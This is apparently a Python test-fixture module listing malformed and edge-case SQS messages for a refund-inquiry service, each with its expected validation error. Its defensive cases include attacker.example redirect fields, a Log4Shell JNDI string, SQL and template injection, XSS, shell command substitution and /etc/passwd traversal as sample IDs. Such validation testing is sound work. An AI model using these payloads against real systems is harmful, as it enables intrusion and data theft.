"""Malformed queue messages (name → body, a fragment of the rejection reason) and valid edge cases.

It starts from tests/unit/test_message_validation.INVALID (less the empty body, which SQS refuses itself) and adds
encodings, types, sizes, unknown and dangerous fields. Bodies are text as SQS accepts it: no NUL or lone surrogate
characters on the wire, but their JSON escapes (``"\\u0000"``, ``"\\ud800"``) are fair game.
"""

from __future__ import annotations

import json
from typing import Any

from tests.unit.test_message_validation import INVALID

# Real SQS limit; moto's queues allow 1 MiB, so the size cases are checked against AWS's figure here.
SQS_LIMIT = 262_144
# Secrets named in tests/reliability/test_bad_input.py: "nobody" has no secret; the others are set up there.
MERCHANT_WITHOUT_SECRET = "nobody"
MISMATCHED_MERCHANT = "mismatch"  # alipayplus/mismatch holds an Antom profile
PLAIN_HTTP_MERCHANT = "plainhttp"  # antom/plainhttp has baseUrl http://<non-loopback>


def _body(**fields: Any) -> str:
    return json.dumps(fields)


def _padded(size: int, **fields: Any) -> str:
    """A body of exactly ``size`` bytes: the fields, then a "note" field of x's (unknown: rejected)."""
    head = json.dumps({**fields, "note": ""})
    return head[:-2] + "x" * (size - len(head)) + head[-2:]


def _whitespace_padded(size: int, **fields: Any) -> str:
    """A *valid* body of exactly ``size`` bytes: JSON allows any amount of whitespace between tokens."""
    text = json.dumps(fields)
    return text[:-1] + " " * (size - len(text)) + "}"


A = {"provider": "antom", "refundId": "r"}

EXTRA: dict[str, tuple[str, str]] = {
    # Not JSON, or not the JSON of an object.
    "truncated object": ('{"provider": "antom", "refundId": "r"', "body: is not valid JSON"),
    "trailing garbage": ('{"provider": "antom", "refundId": "r"} trailing', "body: is not valid JSON"),
    "single quotes": ("{'provider': 'antom', 'refundId': 'r'}", "body: is not valid JSON"),
    "byte order mark": ('\ufeff{"provider": "antom", "refundId": "r"}', "body: is not valid JSON"),
    "JSON null": ("null", "body: must be a JSON object"),
    "JSON number": ("42", "body: must be a JSON object"),
    "whitespace only": ("   \n\t ", "body: is not valid JSON"),
    "XML": ("<inquiry><provider>antom</provider></inquiry>", "body: is not valid JSON"),
    "form encoding": ("provider=antom&refundId=r", "body: is not valid JSON"),
    "huge exponent": ('{"provider": "antom", "refundId": "r", "polling": {"intervalSeconds": 1e400}}', "integer"),
    "NaN interval": ('{"provider": "antom", "refundId": "r", "polling": {"intervalSeconds": NaN}}', "integer"),
    # Encodings: SQS takes any text; what matters is what the escapes decode to.
    "lone low surrogate escape": ('{"provider": "antom", "refundRequestId": "x\\udc00y"}', "must be valid Unicode"),
    "surrogate in correlation id": (
        '{"provider": "antom", "refundId": "r", "correlationId": "\\ud83d"}',
        "correlationId: must be valid Unicode",
    ),
    "overlong UTF-8 read as Latin-1": ('{"provider": "antom", "refundId": "r"}\u00c0\u00af', "body: is not valid JSON"),
    "mojibake body": ("\u00ef\u00bb\u00bf\u00c3\u00a9\u00c3\u00a8 garbage \ufffd\ufffd", "body: is not valid JSON"),
    "escaped NUL in provider": ('{"provider": "antom\\u0000", "refundId": "r"}', "provider: must be one of"),
    # Wrong types.
    "id as an object": (_body(provider="antom", refundId={"$ne": ""}), "refundId: must be string"),
    "id as a list": (_body(provider="antom", refundRequestId=["r"]), "refundRequestId: must be string"),
    "id as a boolean": (_body(provider="antom", refundId=True), "refundId: must be string"),
    "merchant as a number": (_body(**A, merchant=7), "merchant: must be string"),
    "interval as a string": (_body(**A, polling={"intervalSeconds": "5"}), "must be integer"),
    "interval as a boolean": (_body(**A, polling={"intervalSeconds": True}), "must be integer"),
    "negative window": (_body(**A, polling={"maxDurationSeconds": -1}), "minimum"),
    "correlation id as a number": (_body(**A, correlationId=12), "correlationId: must be string"),
    "force as null": (_body(**A, force=None), "force: must be boolean"),
    # Ids.
    "both ids null": (_body(provider="antom", refundId=None, refundRequestId=None), "must be string"),
    "only a correlation id": (_body(provider="antom", correlationId="c"), "at least one is required"),
    "65 multibyte characters": (_body(provider="antom", refundId="退" * 65), "refundId: must be shorter"),
    "tab in id": (_body(provider="antom", refundId="r\t1"), "control characters"),
    "DEL in id": (_body(provider="antom", refundRequestId="r\u007f1"), "control characters"),
    "escape sequence in id": (_body(provider="antom", refundId="\u001b[31mred"), "control characters"),
    "CR LF in correlation id": (_body(**A, correlationId="a\r\nX-Injected: 1"), "control characters"),
    "merchant path traversal": (_body(**A, merchant="../antom/default"), "merchant: must match"),
    "merchant with a slash": (_body(**A, merchant="default/x"), "merchant: must match"),
    # Providers.
    "provider in capitals": (_body(provider="ANTOM", refundId="r"), "provider: must be one of"),
    "provider with a space": (_body(provider=" antom", refundId="r"), "provider: must be one of"),
    "provider null": (_body(provider=None, refundId="r"), "provider: must be"),
    "duplicate provider key, last wins": ('{"provider": "antom", "provider": "paypal", "refundId": "r"}', "one of"),
    # Unknown fields, including ones that would change where or how the provider is called.
    "baseUrl field": (_body(**A, baseUrl="https://attacker.example"), "baseUrl: is not a known field"),
    "verify field": (_body(**A, verify=False), "verify: is not a known field"),
    "inquiryPath field": (_body(**A, inquiryPath="/steal"), "inquiryPath: is not a known field"),
    "privateKey field": (_body(**A, privateKey="MIIB"), "privateKey: is not a known field"),
    "headers field": (_body(**A, headers={"Host": "attacker.example"}), "headers: is not a known field"),
    "proto pollution": ('{"provider": "antom", "refundId": "r", "__proto__": {"a": 1}}', "__proto__: is not a known"),
    "profile in polling": (_body(**A, polling={"baseUrl": "http://10.0.0.1"}), "baseUrl: is not a known field"),
    # Sizes (real SQS limit: 256 KiB of body *and* attributes).
    "unknown field at 256 KiB": (_padded(SQS_LIMIT - 1024, **A), "note: is not a known field"),
    "a 200 KB id": (_body(provider="antom", refundId="r" * 200_000), "refundId: must be shorter"),
    # Merchants whose profile secret is missing, for another provider, or unsafe.
    "no such merchant profile": (_body(**A, merchant=MERCHANT_WITHOUT_SECRET), "no merchant profile secret"),
    "no profile for the provider": (_body(provider="alipayplus", refundId="r", merchant="live"), "no merchant"),
    "profile for another provider": (
        _body(provider="alipayplus", refundId="r", merchant=MISMATCHED_MERCHANT),
        "is for provider 'antom', not 'alipayplus'",
    ),
    "profile with plain http to a remote host": (
        _body(**A, merchant=PLAIN_HTTP_MERCHANT),
        "plain http:// is allowed only for loopback hosts",
    ),
}

MALFORMED: dict[str, tuple[str, str]] = {
    **{f"unit: {name}": case for name, case in INVALID.items() if case[0]},
    **EXTRA,
}

# Injection-looking ids are *valid* (printable, ≤ 64): they must be stored verbatim and never interpreted.
INJECTION_IDS = [
    "'; DROP TABLE refunds; /*",  # no '--': the sandbox reads what precedes '--' as a script
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "$(touch /tmp/pwned)",
    "../../etc/passwd",
    '" OR "1"="1',
    "#{7*7}%s%n%x",
]

VALID_EDGES: dict[str, dict[str, Any] | str] = {
    "whitespace padded to 256 KiB": _whitespace_padded(SQS_LIMIT - 1024, provider="antom", refundRequestId="ws-pad-1"),
    "interval written as 1.0": {
        "provider": "alipayplus",
        "refundId": "edge-float-1",
        "polling": {"intervalSeconds": 1.0},
    },
    "64 multibyte characters": {"provider": "alphapay", "refundId": "退" * 64},
    "every field": {
        "provider": "antom",
        "merchant": "default",
        "refundId": "edge-all-1",
        "refundRequestId": "edge-all-rr-1",
        "polling": {"intervalSeconds": 1, "maxDurationSeconds": 20},
        "correlationId": "c" * 128,
        "force": False,
    },
}
